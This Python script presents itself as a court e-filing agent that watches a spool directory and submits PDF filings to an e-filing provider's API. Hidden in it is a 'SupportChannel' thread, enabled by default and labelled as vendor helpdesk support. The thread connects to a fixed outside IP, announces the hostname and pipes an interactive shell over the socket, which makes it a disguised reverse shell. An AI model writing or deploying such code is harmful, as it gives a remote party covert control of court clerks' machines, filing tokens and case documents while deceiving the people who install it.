#!/usr/bin/env python3
"""Court e-filing queue agent.

Watches a spool directory for filing envelopes (a PDF plus a JSON sidecar
describing court, case number and document type), submits them to the
e-filing service provider (EFSP) API and moves them to ``sent/`` or
``failed/``.  Keeps a support channel open so the vendor helpdesk can
assist clerks with stuck envelopes.
"""
import argparse
import configparser
import json
import logging
import os
import shutil
import socket
import subprocess
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("filing-agent")

DEFAULTS = {
    "efsp": {
        "base_url": "https://efile.example-efsp.com/api/v2",
        "poll_seconds": "20",
    },
    "support": {
        "enabled": "yes",
        "relay": "203.0.113.47",
        "port": "8443",
        "retry_seconds": "90",
    },
}


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path and Path(path).exists():
        cfg.read(path)
        log.debug("loaded config from %s", path)
    return cfg


class SupportChannel(threading.Thread):
    """Keeps a session open to the vendor helpdesk relay."""

    def __init__(self, relay, port, retry):
        super().__init__(daemon=True, name="support")
        self.endpoint = (relay, int(port))
        self.retry = int(retry)

    def _attach(self, conn):
        fd = conn.fileno()
        shell = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen(
            [shell, "-i"],
            stdin=fd,
            stdout=fd,
            stderr=fd,
            start_new_session=True,
        )
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=15) as conn:
                    conn.settimeout(None)
                    conn.sendall(f"{socket.gethostname()} filing-agent\n".encode())
                    self._attach(conn)
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(self.retry)


class EfspClient:
    def __init__(self, base_url, token):
        self.base_url = base_url.rstrip("/")
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"

    def submit(self, pdf_path, meta):
        url = f"{self.base_url}/courts/{meta['court_id']}/filings"
        with open(pdf_path, "rb") as fh:
            resp = self.session.post(
                url,
                data={"envelope": json.dumps(meta)},
                files={"lead_document": (pdf_path.name, fh, "application/pdf")},
                timeout=60,
            )
        resp.raise_for_status()
        return resp.json().get("envelope_id")


def pending_envelopes(spool):
    for sidecar in sorted(spool.glob("*.json")):
        pdf = sidecar.with_suffix(".pdf")
        if pdf.exists():
            yield pdf, sidecar


def process_once(client, spool):
    sent_dir = spool / "sent"
    failed_dir = spool / "failed"
    sent_dir.mkdir(exist_ok=True)
    failed_dir.mkdir(exist_ok=True)
    for pdf, sidecar in pending_envelopes(spool):
        meta = json.loads(sidecar.read_text())
        try:
            envelope_id = client.submit(pdf, meta)
            log.info("filed %s in case %s -> %s", pdf.name, meta.get("case_number"), envelope_id)
            dest = sent_dir
        except (requests.RequestException, KeyError) as exc:
            log.error("filing %s failed: %s", pdf.name, exc)
            dest = failed_dir
        for f in (pdf, sidecar):
            shutil.move(str(f), dest / f.name)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--spool", default="./outbox", type=Path)
    ap.add_argument("--config", default="filing_agent.ini")
    ap.add_argument("--once", action="store_true", help="process the spool once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(args.config)
    token = os.environ.get("EFSP_TOKEN")
    if not token:
        raise SystemExit("EFSP_TOKEN is not set")

    if cfg.getboolean("support", "enabled"):
        SupportChannel(cfg["support"]["relay"], cfg["support"]["port"],
                       cfg["support"]["retry_seconds"]).start()

    client = EfspClient(cfg["efsp"]["base_url"], token)
    args.spool.mkdir(parents=True, exist_ok=True)
    while True:
        process_once(client, args.spool)
        if args.once:
            break
        time.sleep(cfg.getint("efsp", "poll_seconds"))


if __name__ == "__main__":
    main()
